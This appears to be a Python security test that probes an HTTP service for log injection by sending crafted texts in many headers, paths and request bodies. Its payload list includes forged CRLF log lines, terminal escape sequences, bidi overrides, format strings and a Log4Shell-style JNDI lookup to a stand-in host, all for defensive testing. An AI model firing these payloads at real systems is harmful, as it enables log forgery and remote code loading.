"""sec85: what clients send cannot forge, break or flood the log. The log itself is read after every family."""

import itertools
from urllib.parse import quote

import calls
import canaries
from wire import request

NAME = "sec85 log injection"

FORGED = '{"timestamp":"2026-01-01T00:00:00Z","level":"INFO","message":"answered","outcome":"success"}'
TEXTS = {
    "a line": f"\r\n{FORGED}\r\n",
    "a line, ended": f'"}}\n{FORGED}',
    "an escape sequence": "\x1b[2J\x1b[31m\x1b]0;x\x07",
    "separators": "\u2028\u2029\u0085",
    "turned round": "\u202e\u2066x\u2069",
    "quotes": '"\'`\\"}],',
    "formats": "%s%n%x{}{0}${jndi:ldap://a.example/x}",
    "NUL": "\0",
    "DEL and friends": "\x7f\x80\x9f",
    "long": "x" * 10_000,
}
HEADERS = (
    "user-agent",
    "referer",
    "x-forwarded-for",
    "x-real-ip",
    "forwarded",
    "x-request-id",
    "traceparent",
    "baggage",
    "from",
    "idempotency-key",
    "accept-language",
    "via",
    "origin",
    "cookie",
    "content-type",
    "authorization",
    "host",
    "x-zqcanary",
)


def run(examiner, requests):
    marked = {name: canaries.MARK + text + canaries.MARK for name, text in TEXTS.items()}
    for (name, text), header in itertools.product(marked.items(), HEADERS):
        in_a_header(examiner, f"{name} in {header}", header, text)
    for name, text in marked.items():
        path = quote(text, safe="")
        for target in (
            f"/{path}",
            f"/user_management/users/{path}",
            f"/auth/reset-password/{path}",
            f"/events?{path}={path}",
        ):
            for method in ("GET", "POST", canaries.MARK):
                examiner.call(f"{name} in a path", method, target, None, (200, 404, 405, 415, 422, 431))
        for call in calls.WITH_BODY:
            body = {field: text for field in call.fields}
            examiner.call(f"{name} in a body", call.method, requests.target(call), body, range(200, 423))
    huge = [*examiner.headers(), ("user-agent", canaries.MARK + "x" * 1024 * 1024)]
    examiner.lonely("a user agent of 1 MiB", request("GET", "/healthz", huge), "GET", 431)


def in_a_header(examiner, name, header, text):
    """As raw bytes, and as the escapes of those that cannot stand in a header."""
    usual = [] if header == "authorization" else examiner.headers()
    host = None if header == "host" else "localhost"
    raw = text.encode()
    escaped = quote(text, safe="").encode()
    for form, value in (("raw", raw), ("escaped", escaped)):
        data = request("GET", "/readyz", [*usual, (header, value)], host=host)
        # A text with a line end in it is a head that ends early, or more than one header.
        examiner.exchange(f"{name}, {form}", data, "GET", (200, 400, 431))
        examiner.let_go()
